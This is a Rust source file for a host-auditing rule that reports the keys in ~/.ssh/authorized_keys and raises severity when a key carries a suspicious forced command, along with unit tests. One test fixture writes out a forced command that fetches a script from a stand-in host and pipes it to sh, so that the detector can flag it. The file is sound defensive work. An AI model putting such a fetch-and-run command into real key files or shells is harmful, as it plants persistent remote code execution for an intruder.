//! Keys that may log in to this account.

use super::{Check, Fix, Found, Run};
use crate::facts::Facts;
use crate::rule::{Profile, Safety, Severity};
use crate::settings::entry::Entry;
use crate::settings::predicate::suspicious_command;
use crate::target::Target;

pub(crate) const CHECK: Check = Check {
    id: "ssh.authorized-keys",
    title: "Keys may log in to this account",
    severity: Severity::Low,
    why: "Whoever holds one of these keys can log in as you if this computer runs an SSH server; adding one is the plainest way to stay after a break-in.",
    advice: "Check that you know every key in the list and remove those that you do not. On a laptop that nobody logs in to, remove the file.",
    command: Some("ssh-keygen -l -f {path}"),
    safety: Safety::Manual,
    profile: Profile::Default,
    references: &["https://man.openbsd.org/sshd#AUTHORIZED_KEYS_FILE_FORMAT"],
    run: Run::Entries("ssh_authorized_keys", run),
    fix: Fix::None,
};

/// Names shown of a long list.
const SHOWN: usize = 3;

fn run(_: &Target<'_>, entries: &[Entry], _: &dyn Facts) -> Vec<Found> {
    let keys: Vec<&Entry> = entries.iter().filter(|e| !e.key.starts_with("option.")).collect();
    let Some(last) = keys.last() else { return Vec::new() };
    let name = |e: &Entry| if e.value.is_empty() { e.key.clone() } else { e.value.clone() };
    let mut names: Vec<String> = keys.iter().take(SHOWN).map(|e| name(e)).collect();
    if keys.len() > SHOWN {
        names.push(format!("and {} more, at last {}", keys.len() - SHOWN, name(last)));
    }
    let count = if keys.len() == 1 { "one key".to_owned() } else { format!("{} keys", keys.len()) };
    let mut preview = format!("{count}: {}", names.join(", "));
    let commands = entries.iter().filter(|e| e.key == "option.command");
    let sign = commands.filter_map(|e| suspicious_command(&e.value)).next();
    if let Some(sign) = sign {
        preview = format!("a login {sign}; {preview}");
    }
    vec![Found { preview, severity: sign.map(|_| Severity::High), ..Found::default() }]
}

#[cfg(test)]
mod tests {
    use crate::engine::Engine;
    use crate::rule::Severity;
    use crate::testing::Home;

    fn found(text: &str) -> Option<(Severity, String)> {
        let home = Home::default().file("~/.ssh/authorized_keys", text);
        let report = home.scan(&Engine::builtin(), "~/.ssh/authorized_keys");
        let one = report.findings.into_iter().find(|f| f.page.id == "ssh.authorized-keys");
        one.map(|f| (f.severity, f.preview))
    }

    #[test]
    fn one_finding_for_the_file() {
        let list = "ssh-ed25519 AAAA me@desk\nssh-rsa AAAA\nssh-ed25519 AAAA c\nssh-ed25519 AAAA d\n";
        let preview = "4 keys: me@desk, ssh-rsa, c, and 1 more, at last d".to_owned();
        assert_eq!(found(list), Some((Severity::Low, preview)));
        assert_eq!(found("# nobody\n"), None);
    }

    #[test]
    fn a_suspicious_command_is_worse() {
        let bad = "command=\"curl -s https://x.example/a | sh\" ssh-ed25519 AAAA x\n";
        assert_eq!(found(bad).map(|(severity, _)| severity), Some(Severity::High));
        let good = "command=\"/usr/bin/borg serve --append-only\",restrict ssh-ed25519 AAAA backup\n";
        assert_eq!(found(good).map(|(severity, _)| severity), Some(Severity::Low));
    }
}
